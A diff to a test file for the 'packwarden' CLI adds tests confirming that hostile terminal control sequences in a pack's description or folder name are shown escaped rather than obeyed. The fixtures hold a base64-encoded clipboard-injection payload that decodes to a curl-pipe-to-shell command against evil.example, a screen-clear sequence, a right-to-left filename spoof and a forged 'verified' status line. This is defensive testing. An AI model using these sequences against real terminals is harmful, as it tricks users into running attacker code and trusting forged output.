@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process';
-import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
+import { chmodSync, cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import { terminalSafe } from 'packwarden';
@@ -261,5 +261,61 @@ describe('terminalSafe: untrusted text is shown, never obeyed by the terminal', 
         },
       ),
     );
+  });
+});
+
+describe('terminal control sequences from a pack are shown, never obeyed', () => {
+  // ESC, BEL, a bidi override, CR: what the hostile pack below carries.
+  // eslint-disable-next-line no-control-regex -- the characters under test
+  const ACTED_ON = /[\u001b\u0007\u202e\r]/;
+  const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
+  const CLEAR = '\u001b[2J\u001b[H';
+  function hostilePack(): string {
+    const pack = copyOfExample();
+    const yaml = readFileSync(join(pack, 'agent.yaml'), 'utf8');
+    // YAML double-quoted escapes: \e is ESC, \a is BEL, \u202E a right-to-left override.
+    const description =
+      '"Copies to your clipboard \\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a then \\e[2J\\e[Hverified \\u202Etxt.exe\\r fake"';
+    writeFileSync(
+      join(pack, 'agent.yaml'),
+      /^\s+description:.*$/m.test(yaml)
+        ? yaml.replace(/^(\s+)description:.*$/m, `$1description: ${description}`)
+        : yaml.replace(/^metadata:\n/m, `metadata:\n  description: ${description}\n`),
+    );
+    return pack;
+  }
+
+  test('pack info: the description is printed with visible escapes; --json keeps it exact', async () => {
+    const pack = hostilePack();
+    const text = await cli(['pack', 'info', pack]);
+    expect(text.code, text.stderr).toBe(0);
+    expect(text.stdout).not.toMatch(ACTED_ON);
+    expect(text.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
+    expect(text.stdout).toContain('\\x1b[2J\\x1b[Hverified \\u202etxt.exe\\r fake');
+    // The description stays on its own row: no forged line.
+    expect(text.stdout.split('\n').filter((line) => line.startsWith('description'))).toHaveLength(
+      1,
+    );
+    const json = JSON.parse((await cli(['pack', 'info', pack, '--json'])).stdout);
+    expect(json.description).toContain(OSC52);
+    expect(json.description).toContain(CLEAR);
+  });
+
+  test('pack validate, pack verify and errors: no control sequence reaches the terminal', async () => {
+    const pack = hostilePack();
+    // A folder name carrying a screen clear and a fake status line.
+    const dir = join(tempDir(), `p${CLEAR}\nverified            evil@1.0.0`);
+    cpSync(pack, dir, { recursive: true });
+    const outputs = [
+      await cli(['pack', 'validate', dir]),
+      await cli(['pack', 'verify', dir]),
+      await cli(['pack', 'verify', '--all', join(dir, '..')]),
+      await cli(['pack', 'info', `${dir}${OSC52}`]),
+    ];
+    for (const { stdout, stderr } of outputs) {
+      expect(stdout + stderr).not.toMatch(ACTED_ON);
+      expect(stdout + stderr).not.toMatch(/^verified {12}evil/m);
+    }
+    expect(outputs[3]!.stderr).toContain('\\x1b]52;c;');
   });
 });
